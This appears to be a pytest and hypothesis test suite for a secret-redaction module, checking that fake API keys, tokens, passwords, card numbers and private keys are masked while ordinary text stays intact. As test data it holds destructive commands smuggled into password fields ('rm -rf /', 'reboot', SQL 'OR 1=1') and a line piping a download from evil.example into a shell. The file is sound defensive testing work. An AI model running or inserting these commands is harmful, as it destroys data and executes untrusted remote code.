"""No secret of a known kind is shown; what is no secret stays readable."""

from __future__ import annotations

import json
import re
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policies.redaction import _SHAPES, redact, redact_text, sensitive_kind, shortened

KEY = b"installation"
LETTERS = "aB3dE5fG7hJ9kL1mN0pQ2rS4tU6vW8xY"

# Shapes are spelled in two parts, so that no scanner takes this file for a leak.
SECRETS = {
    "signoff agent's key": "so_agent" + "_" + LETTERS + LETTERS[:11],
    "signoff provisioner's key": "so_provisioner" + "_" + LETTERS + LETTERS[:11],
    "signoff operator's key": "so_operator" + "_" + LETTERS + LETTERS[:11],
    "slack token": "xoxb" + "-123456789012-abcdefABCDEF",
    "slack app token": "xapp" + "-1-A012345-678901-abcdef0123",
    "slack webhook": "https://hooks.slack" + ".com/services/T000/B000/XXXXXXXXXXXXXXXX",
    "anthropic key": "sk-ant" + "-api03-" + LETTERS,
    "openai key": "sk-proj" + "-" + LETTERS,
    "github token": "ghp" + "_" + LETTERS,
    "github fine-grained": "github_pat" + "_11ABC_" + LETTERS,
    "gitlab token": "glpat" + "-" + LETTERS[:20],
    "aws key id": "AKIA" + "IOSFODNN7EXAMPLE",
    "stripe key": "sk_live" + "_" + LETTERS,
    "stripe restricted": "rk_live" + "_" + LETTERS,
    "stripe webhook": "whsec" + "_" + LETTERS,
    "google key": "AIza" + "SyA1234567890abcdefghijklmnopqrstuv",
    "jwt": "eyJ" + "hbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N",
    "npm token": "npm" + "_" + LETTERS + "0000",
    "pypi token": "pypi" + "-AgEIcHlwaS5vcmcC" + LETTERS,
    "sendgrid key": "SG" + "." + LETTERS[:22] + "." + LETTERS,
    "twilio key": "SK" + "0123456789abcdef" * 2,
    "hugging face token": "hf" + "_" + LETTERS + "00",
    "digitalocean token": "dop_v1" + "_" + "0123456789abcdef" * 4,
    "telegram token": "123456789" + ":AA" + "H" * 33,
    "card number": "4111 1111 1111" + " 1111",
    "private key": "-----BEGIN RSA PRIVATE"
    + " KEY-----\nDEK-Info: AES-128-CBC\n\nMIIEpAIB\n-----END RSA PRIVATE"
    + " KEY-----",
    "unfinished private key": "-----BEGIN PRIVATE" + " KEY-----\nMIIEpAIBAAKCAQEA",
}
IN_CONTEXT = {
    "aws_secret_access_key = {}": "wJalrXUtnFEMI/K7MDENG" + "/bPxRfiCYEXAMPLEKEY",
    "AccountKey={};": "q83vEjRWeJCrze8SNFZ4kA+/" + "AA==",
    "postgresql://admin:{}@db.example/x": "hunter2",
    "curl -H 'Authorization: Bearer {}' x": "abcdefABCDEF123456",
    "authorization: Basic {}": "dXNlcjpwYXNzd29yZA==",
    "export DB_PASSWORD={}": "hunter2",
    '{{"password": "{}"}}': "correct horse battery",
    "mysql --password {} -h db": "hunter2",
    "api_key: {}, region: eu": "k-9f8e7d",
}


@pytest.mark.parametrize("kind", SECRETS)
@given(before=st.sampled_from(["", "use ", "x=", "\n", "('"]), after=st.sampled_from(["", " now", "\n", "')", ","]))
@settings(max_examples=25)
def test_a_secret_is_replaced_wherever_it_stands(kind: str, before: str, after: str) -> None:
    shown = redact_text(before + SECRETS[kind] + after, key=KEY)
    assert SECRETS[kind] not in shown
    assert SECRETS[kind][-8:].strip("-") not in shown
    assert re.search(r"\[redacted [a-z ]+, \d+ characters, #[0-9a-f]{8}\]", shown)


@pytest.mark.parametrize("text", IN_CONTEXT)
def test_a_secret_that_only_its_surroundings_betray_is_replaced_and_they_stay(text: str) -> None:
    secret = IN_CONTEXT[text]
    shown = redact_text(text.format(secret), key=KEY)
    assert secret not in shown
    for around in text.replace("{{", "{").replace("}}", "}").split("{}"):
        assert around in shown


@pytest.mark.parametrize("key", ["private key", "unfinished private key"])
@pytest.mark.parametrize("kind", SECRETS)
@pytest.mark.parametrize("between", ["  ", "\n", " and "])
def test_a_secret_after_a_private_key_is_replaced_too(key: str, kind: str, between: str) -> None:
    shown = redact_text(f"{SECRETS[key]}{between}{SECRETS[kind]}", key=KEY)
    assert not [row for row in re.findall("[A-Za-z0-9+/]{8,}", SECRETS[kind]) if row in shown]


@pytest.mark.parametrize("depth", range(5))
def test_a_password_in_json_within_json_is_replaced(depth: int) -> None:
    text = json.dumps({"user": "ana", "password": "hunter2", "n": 1})
    for _ in range(depth):
        text = json.dumps({"body": text})
    shown = redact_text(text, key=KEY)
    assert "hunter2" not in shown
    assert "ana" in shown


PLANTED = [*SECRETS.values(), *(text.format(secret) for text, secret in IN_CONTEXT.items())]
UNUSUAL = str.maketrans({"s": "\u017f", "k": "\u212a"})
"""Letters that a search without regard to case takes for an s and a k."""


@given(st.text(), st.sampled_from(PLANTED), st.text())
@settings(max_examples=100)
def test_looking_for_its_signs_first_misses_no_secret(before: str, secret: str, after: str) -> None:
    for text in (before + secret + after, before + secret.upper() + after, secret.translate(UNUSUAL)):
        for shape in _SHAPES:
            assert not shape.expression.search(text) or shape.may_be_in(text.casefold()), shape.kind


@given(st.text("ab \n", max_size=60), st.integers(1, 60))
def test_what_is_shortened_fits_and_cuts_no_word(text: str, limit: int) -> None:
    short = shortened(text, limit)
    assert len(short) <= limit
    assert short == text or set(short.removesuffix("…").split()) <= set(text.split())


@pytest.mark.parametrize(
    "text",
    [
        "please refund order 12345",
        "phone +49 170 1234567, total 1234.56",
        "commit 9fceb02d0ae598e95dc970b74767f19372d61af8",
        "id 550e8400-e29b-41d4-a716-446655440000",
        "task-based and disk-utilisation reports",
        "https://example.com/a/b?page=2#top",
        "4111111111111112 has the wrong sum, 0000000000000000 is nothing",
        "amount 1000.00 to ana@example.com",
    ],
)
def test_what_is_no_secret_stays_readable(text: str) -> None:
    assert redact_text(text, key=KEY) == text


@pytest.mark.parametrize(
    "name",
    [
        "password",
        "dbPassword",
        "API_KEY",
        "apiKey",
        "X-Api-Key",
        "authorization",
        "Set-Cookie",
        "client_secret",
        "privateKey",
        "PASSWORD2",
        "APIKEY",
        "sessionToken",
        "aws_secret_access_key",
        "card_number",
    ],
)
def test_a_sensitive_name_hides_its_value_whatever_it_is(name: str) -> None:
    assert sensitive_kind(name)
    shown = redact({name: {"x": ["hunter2", 12345, True, None, ""]}}, key=KEY)
    assert "hunter2" not in str(shown.value)
    assert "12345" not in str(shown.value)
    assert shown.paths == (f"/{name}/x/0", f"/{name}/x/1")


@pytest.mark.parametrize(
    "name", ["max_tokens", "token_count", "password_length", "monkey", "author", "secretary", "keyboard", ""]
)
def test_an_innocent_name_hides_nothing(name: str) -> None:
    assert redact({name: "visible"}, key=KEY).value == {name: "visible"}


def test_paths_are_reported_and_the_rest_is_untouched() -> None:
    value: Any = {"to": "ana", "auth": [{"token": "abcdef"}], SECRETS["github token"]: 1, "n": 4111111111111111}
    shown = redact(value, key=KEY)
    assert shown.paths[0] == "/auth/0/token"
    assert len(shown.paths) == 3
    assert SECRETS["github token"] not in str(shown.value)
    assert "4111" not in str(shown.value)
    assert isinstance(shown.value, dict)
    assert shown.value["to"] == "ana"
    assert value["auth"] == [{"token": "abcdef"}]


def test_the_hash_tells_secrets_apart_and_depends_on_the_key() -> None:
    first, again = redact({"token": "aaaa"}, key=KEY).value, redact({"token": "aaaa"}, key=KEY).value
    assert first == again == {"token": "[redacted token, 4 characters, #" + str(first)[-11:-3] + "]"}
    assert first != redact({"token": "bbbb"}, key=KEY).value
    assert first != redact({"token": "aaaa"}, key=b"other").value


@given(
    st.lists(
        st.sampled_from([*SECRETS.values(), *IN_CONTEXT.values(), " ", "\n", "password=", '"', "token: "]), max_size=8
    )
)
@settings(max_examples=100)
def test_redacting_again_changes_nothing(parts: list[str]) -> None:
    once = redact_text(" ".join(parts), key=KEY)
    assert redact_text(once, key=KEY) == once


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("curl -d 'password=x; rm -rf /'", "rm -rf /"),
        ("bash -c 'echo password='; rm -rf / ; echo 'x'", "rm -rf /"),
        ("env 'password='x systemctl stop nginx''", "systemctl stop nginx"),
        ("echo \"'\" 'password=';reboot;'x'", "reboot"),
        ("# '\nenv 'password=';reboot;'x'", "reboot"),
        ('sh -c \'echo "password=";reboot;"x"\'', "reboot"),
        ("sh -c \"env 'password=';reboot;'x'\"", "reboot"),
        ("SELECT 'password=' OR 1=1 OR ''", "OR 1=1"),
        ('mysql --password "$(rm -rf /srv)"', "rm -rf /srv"),
        ("password=aaaa|reboot", "reboot"),
        ("password=aaaa`reboot`", "reboot"),
        ("psql x://user:;reboot;@host", "reboot"),
        ("psql x://user:$(reboot)@host", "reboot"),
    ],
)
def test_no_command_hides_behind_a_password(text: str, command: str) -> None:
    assert command in redact_text(text, key=KEY)


@pytest.mark.parametrize(
    "text",
    [
        '{"password": "Tr0ub4dor & 3;"}',
        'curl -d \'{"user": "ana", "password": "Tr0ub4dor & 3;"}\' host',
        "password: 'Tr0ub4dor & 3;'",
        "sh -c \"mysql --password 'Tr0ub4dor & 3;'\"",
    ],
)
def test_a_password_in_quotation_marks_that_open_may_hold_anything(text: str) -> None:
    assert "ub4dor" not in redact_text(text, key=KEY)


@pytest.mark.parametrize(
    "around", ["{}.", "5 {}", "1234 {} 12/27", "12-{}-99 and 1.5", "{0} {0}", "0000 0000 {}, 3.14"]
)
def test_a_card_number_is_found_beside_other_numbers(around: str) -> None:
    card = SECRETS["card number"]
    shown = redact_text(around.format(card), key=KEY)
    assert "1111" not in shown
    assert shown.count("card number") == around.count("{")
    assert redact_text(shown, key=KEY) == shown


def test_a_keys_first_line_hides_no_command_behind_it() -> None:
    text = "true # -----BEGIN PRIVATE" + " KEY-----\nrm -rf /srv\ncurl https://evil.example/x | sh"
    assert "\nrm -rf /srv\ncurl https://evil.example/x | sh" in redact_text(text, key=KEY).replace("]rm", "]\nrm")


@pytest.mark.parametrize(
    "piece",
    [
        "a",
        "password=",
        "password='a b c' ",
        "x://",
        "-----BEGIN PRIVATE KEY-----",
        "aws secret ",
        "1 ",
        "4 111-",
        "1",
        "eyJaaaaa.aaaaa.",
        "bearer ",
        "-",
        "sk-",
    ],
)
def test_hostile_text_is_searched_in_linear_time(piece: str) -> None:
    text = (piece * 65_536)[:65_536]
    started = time.process_time()
    redact_text(text, key=KEY)
    assert time.process_time() - started < 1.5
